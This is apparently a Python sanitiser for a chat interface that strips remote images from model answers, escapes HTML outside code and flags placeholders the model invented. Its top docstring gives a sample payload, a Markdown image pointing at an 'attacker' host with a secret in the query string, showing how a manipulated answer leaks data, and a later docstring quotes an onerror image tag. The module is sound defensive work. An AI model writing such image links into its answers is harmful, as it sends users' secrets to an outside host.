"""Model text made safe to render: no image the browser would fetch from another host.

A manipulated answer such as `![x](http://attacker/leak.png?d=<secret>)` makes the browser send the secret the
moment the answer is shown. Remote images become plain text naming the host; the Content-Security-Policy
(sandbox/ui/gate.py) blocks any that slip through.
"""

from __future__ import annotations

import re

# ![alt](url "title"), ![alt][ref] with a definition, and <img ...> tags (any case, any attributes).
MARKDOWN_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]{0,500})\]\(\s*<?(?P<url>[^)\s>]{0,2000})>?"
                            r"(?:\s+[\"'(][^)]{0,500})?\s*\)")
REFERENCE_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]{0,500})\]\s?\[[^\]\n]{0,200}\]")
HTML_IMAGE = re.compile(r"<\s*(?:img|image|picture|source|svg|video|audio|iframe|object|embed)\b[^>]{0,4000}>?",
                        re.IGNORECASE)
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)


def _is_local(url: str) -> bool:
    """An inline data image, or a path on this server (no scheme, no network-path "//")."""
    url = url.strip().lower()
    if url.startswith("data:image/"):
        return True
    return not url.startswith(("//", "\\\\", "/\\", "\\/")) and not SCHEME.match(url)


def _host(url: str) -> str:
    found = re.match(r"(?:[a-z][a-z0-9+.-]*:)?//([^/?#\s]{1,200})", url, re.IGNORECASE)
    return found.group(1) if found else "another site"


def no_remote_images(text: str, tags: bool = True) -> str:
    """`text` with every image reference that could reach another host replaced by a note in words (HTML tags
    too unless `tags` is False: text escaped afterwards shows them as typed)."""
    def markdown(match: re.Match) -> str:
        url = match.group("url")
        if _is_local(url):
            return match.group(0)
        alt = match.group("alt").strip() or "image"
        return f"[image not shown: {alt} from {_host(url)}]"

    text = MARKDOWN_IMAGE.sub(markdown, text)
    text = REFERENCE_IMAGE.sub(lambda m: f"[image not shown: {m.group('alt').strip() or 'image'}]", text)
    return HTML_IMAGE.sub("[embedded content not shown]", text) if tags else text


# Code the Markdown renderer shows as text (it escapes `<` there itself): fenced blocks (an unclosed fence runs to
# the end, as the renderer reads it) and single-line inline spans not opened by an escaped backtick. Reading less
# as code than the renderer does is safe: such text is escaped twice and shows an entity, never markup.
CODE = re.compile(r"(?ms)^[ ]{0,3}(```|~~~).*?(?:^[ ]{0,3}\1[ \t]*$|\Z)|(?<![\\`])`[^`\n]+`(?!`)")
PLACEHOLDER = re.compile(r"<([A-Z][A-Z0-9_]*)_(\d+)>")
UNKNOWN_NOTE = ("(unknown) marks a placeholder the model wrote itself: it stands for nothing you typed in this "
                "conversation, so there is no value to put back.")


def escape_text(text: str) -> str:
    """`text` with `&`, `<` and `>` outside code written as entities: a placeholder such as `<EMAIL_ADDRESS_1>`
    shows as typed and a tag such as `<img src=x onerror=...>` shows as text instead of being rendered."""
    def escape(part: str) -> str:
        return part.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

    out, last = [], 0
    for match in CODE.finditer(text or ""):
        out += [escape(text[last:match.start()]), match.group(0)]
        last = match.end()
    return "".join(out + [escape((text or "")[last:])])


def shown(text: str, unknown: set[str] | frozenset[str] = frozenset(), typed: bool = False) -> str:
    """Model or user text ready for a chat bubble: no remote images, escaped, and each placeholder in `unknown`
    (one the model invented) marked as such rather than passed off as a value. `typed`: the person's own text,
    whose tags show as typed (escaped) rather than being replaced by a note."""
    # Twice: a link whose address held a placeholder (`http://host/<PERSON_1>=x`) is no image until escaped.
    safe = no_remote_images(escape_text(no_remote_images(text or "", tags=not typed)), tags=False)
    if not unknown:
        return safe
    marked = [token for token in unknown if f"&lt;{token[1:-1]}&gt;" in safe]
    for token in marked:
        safe = safe.replace(f"&lt;{token[1:-1]}&gt;", f"&lt;{token[1:-1]}&gt; *(unknown)*")
    return safe + (f"\n\n*{UNKNOWN_NOTE}*" if marked else "")
